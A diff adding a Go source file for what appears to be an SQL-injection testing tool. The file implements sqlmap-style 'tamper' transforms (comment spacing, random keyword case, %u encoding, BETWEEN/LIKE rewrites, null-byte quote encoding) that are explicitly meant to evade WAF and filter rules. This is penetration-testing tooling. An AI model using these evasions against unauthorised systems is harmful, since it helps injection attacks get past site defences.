@@ -0,0 +1,153 @@
+package main
+
+import (
+	"fmt"
+	"math/rand"
+	"regexp"
+	"strings"
+	"unicode"
+)
+
+// Tamper transforms a payload before it is sent, mirroring sqlmap's tamper
+// scripts for slipping past naive WAF/filter rules (keyword blocklists,
+// signature matching on literal characters like '=' or quotes).
+type Tamper interface {
+	Name() string
+	Apply(payload string) string
+}
+
+// tamperRegistry maps a tamper's name, as used in -tamper, to its
+// implementation.
+var tamperRegistry = map[string]Tamper{
+	"space2comment":        space2Comment{},
+	"randomcase":           randomCase{},
+	"charunicodeencode":    charUnicodeEncode{},
+	"between":              betweenTamper{},
+	"apostrophenullencode": apostropheNullEncode{},
+	"equaltolike":          equalToLike{},
+}
+
+// parseTamperChain resolves a comma-separated -tamper flag value (e.g.
+// "space2comment,randomcase,charunicodeencode") into an ordered chain of
+// Tampers, applied left to right.
+func parseTamperChain(spec string) ([]Tamper, error) {
+	if spec == "" {
+		return nil, nil
+	}
+
+	var chain []Tamper
+	for _, name := range strings.Split(spec, ",") {
+		name = strings.TrimSpace(name)
+		if name == "" {
+			continue
+		}
+		tamper, ok := tamperRegistry[name]
+		if !ok {
+			return nil, fmt.Errorf("unknown tamper %q", name)
+		}
+		chain = append(chain, tamper)
+	}
+	return chain, nil
+}
+
+// applyTamperChain runs payload through every tamper in chain, in order,
+// and returns the transformed payload alongside a comma-joined label
+// describing the chain that produced it (for RequestResult.TamperChain).
+// An empty chain returns payload unchanged and an empty label.
+func applyTamperChain(chain []Tamper, payload string) (tampered, label string) {
+	if len(chain) == 0 {
+		return payload, ""
+	}
+
+	names := make([]string, len(chain))
+	for i, tamper := range chain {
+		payload = tamper.Apply(payload)
+		names[i] = tamper.Name()
+	}
+	return payload, strings.Join(names, ",")
+}
+
+// space2Comment replaces spaces with inline comments, evading filters that
+// only blocklist literal whitespace between SQL keywords.
+type space2Comment struct{}
+
+func (space2Comment) Name() string { return "space2comment" }
+
+func (space2Comment) Apply(payload string) string {
+	return strings.ReplaceAll(payload, " ", "/**/")
+}
+
+// sqlKeywordPattern matches the SQL keywords randomCase randomizes the case
+// of; case-insensitive keyword blocklists miss a mixed-case match.
+var sqlKeywordPattern = regexp.MustCompile(`(?i)\b(select|union|insert|update|delete|from|where|and|or|drop|table|order|by|group|having|join|exec|waitfor|delay|sleep|case|when|then|null|like|between)\b`)
+
+// randomCase randomizes the letter case of SQL keywords.
+type randomCase struct{}
+
+func (randomCase) Name() string { return "randomcase" }
+
+func (randomCase) Apply(payload string) string {
+	return sqlKeywordPattern.ReplaceAllStringFunc(payload, randomizeCase)
+}
+
+func randomizeCase(word string) string {
+	var b strings.Builder
+	for _, r := range word {
+		if rand.Intn(2) == 0 {
+			b.WriteRune(unicode.ToUpper(r))
+		} else {
+			b.WriteRune(unicode.ToLower(r))
+		}
+	}
+	return b.String()
+}
+
+// charUnicodeEncode encodes every character as a %uXXXX escape, evading
+// filters that match on literal payload characters rather than a decoded
+// request.
+type charUnicodeEncode struct{}
+
+func (charUnicodeEncode) Name() string { return "charunicodeencode" }
+
+func (charUnicodeEncode) Apply(payload string) string {
+	var b strings.Builder
+	for _, r := range payload {
+		fmt.Fprintf(&b, "%%u%04X", r)
+	}
+	return b.String()
+}
+
+// equalsPattern matches a simple `name=value` comparison so betweenTamper
+// can rewrite it as an equivalent BETWEEN range.
+var equalsPattern = regexp.MustCompile(`(?i)(\w+)\s*=\s*(\w+)`)
+
+// betweenTamper rewrites `=` comparisons as `BETWEEN x AND x`, evading
+// filters that blocklist the `=` character.
+type betweenTamper struct{}
+
+func (betweenTamper) Name() string { return "between" }
+
+func (betweenTamper) Apply(payload string) string {
+	return equalsPattern.ReplaceAllString(payload, "$1 BETWEEN $2 AND $2")
+}
+
+// apostropheNullEncode replaces `'` with its null-byte-prefixed URL
+// encoding, evading filters that strip or blocklist a literal quote.
+type apostropheNullEncode struct{}
+
+func (apostropheNullEncode) Name() string { return "apostrophenullencode" }
+
+func (apostropheNullEncode) Apply(payload string) string {
+	return strings.ReplaceAll(payload, "'", "%00%27")
+}
+
+// equalToLike replaces `=` with `LIKE`, evading filters that blocklist the
+// `=` character while DBMS engines accept LIKE against a non-wildcard
+// value as an equality check.
+type equalToLike struct{}
+
+func (equalToLike) Name() string { return "equaltolike" }
+
+func (equalToLike) Apply(payload string) string {
+	return strings.ReplaceAll(payload, "=", " LIKE ")
+}